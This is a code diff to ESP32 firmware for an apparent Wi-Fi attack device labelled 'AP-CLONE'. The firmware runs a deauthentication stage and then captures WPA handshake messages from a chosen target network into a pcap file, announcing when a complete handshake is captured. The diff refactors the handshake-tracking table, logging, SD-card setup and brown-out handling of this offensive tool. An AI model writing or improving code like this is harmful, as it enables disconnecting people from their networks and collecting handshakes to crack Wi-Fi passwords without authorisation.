@@ -4,9 +4,14 @@
 #include <esp_wifi.h>
 #include "FS.h"
 #include "SD_MMC.h"
+#include "sd_card.h"
 #include "soc/rtc_cntl_reg.h"
 #include "soc/soc.h"
-#include <set>
+
+#include "binlog.h"
+#include "arena.h"
+#include "mac_set.h"
+#include "power_watch.h"
 
 #define LED_PIN 33
 #define DEAUTH_DURATION 15000  // 15 seconds deauthing
@@ -18,7 +23,10 @@ bool targetSet = false;
 bool handshakeComplete = false;
 uint8_t stage = 0;  // 0=scanning, 1=deauthing, 2=capturing
 
-std::set<String> seenHandshakes;
+// Message numbers already saved for the target
+#define HANDSHAKE_MAX_KEYS 16
+Arena tableArena;
+MacSet seenHandshakes;
 File pcapFile;
 String pcapFilename;
 
@@ -103,22 +111,16 @@ void sniffer_callback(void* buf, wifi_promiscuous_pkt_type_t type) {
         else if (keyInfo & 0x0008) msgNum = 4;
 
         if (msgNum > 0) {
-            char key[18];
-            sprintf(key, "%02X%02X%02X%02X%02X%02X-Msg%d",
-                    targetBSSID[0], targetBSSID[1], targetBSSID[2],
-                    targetBSSID[3], targetBSSID[4], targetBSSID[5], msgNum);
-
-            if (seenHandshakes.find(String(key)) == seenHandshakes.end()) {
-                seenHandshakes.insert(String(key));
+            if (macSetInsert(&seenHandshakes, targetBSSID, msgNum)) {
                 writePcapPacket(payload, len);
                 digitalWrite(LED_PIN, LOW);
                 delay(50);
                 digitalWrite(LED_PIN, HIGH);
-                Serial.printf("[HANDSHAKE] Msg%d captured\n", msgNum);
+                LOGI("[HANDSHAKE] Msg%d captured\n", msgNum);
 
-                if (seenHandshakes.size() >= 4) {
+                if (seenHandshakes.count >= 4) {
                     handshakeComplete = true;
-                    Serial.println("[!] COMPLETE HANDSHAKE CAPTURED");
+                    LOGI("[!] COMPLETE HANDSHAKE CAPTURED\n");
                 }
             }
         }
@@ -126,16 +128,25 @@ void sniffer_callback(void* buf, wifi_promiscuous_pkt_type_t type) {
 }
 
 void setup() {
-    WRITE_PERI_REG(RTC_CNTL_BROWN_OUT_REG, 0);
+    powerWatchInit();
     pinMode(LED_PIN, OUTPUT);
     digitalWrite(LED_PIN, HIGH);
 
     Serial.begin(115200);
+    binlogBegin();
     delay(1000);
     Serial.println("\n[AP-CLONE] Starting...");
     Serial.flush();
 
-    if (!SD_MMC.begin("/sdcard", true)) {
+    // Without the table nothing would be saved, so it falls back to internal RAM
+    if (arenaInit(&tableArena, "handshakes", macSetBytes(HANDSHAKE_MAX_KEYS), ARENA_PSRAM) ||
+        arenaInit(&tableArena, "handshakes", macSetBytes(HANDSHAKE_MAX_KEYS), ARENA_INTERNAL)) {
+        macSetInit(&seenHandshakes, arenaAlloc(&tableArena, macSetBytes(HANDSHAKE_MAX_KEYS)),
+                   HANDSHAKE_MAX_KEYS);
+    }
+    arenaReport();
+
+    if (!sdBegin()) {
         Serial.println("[SD] Init FAILED");
     } else {
         Serial.println("[SD] Init OK");
@@ -167,10 +178,12 @@ void setup() {
     }
 
     Serial.println("[SCAN] Scan complete. Starting attack mode...");
+    powerWatchBegin(nullptr);
 }
 
 void loop() {
     uint32_t now = millis();
+    powerWatchTick(now);
     static uint32_t stageStart = 0;
     static uint8_t ch = 1;
     static bool apStarted = false;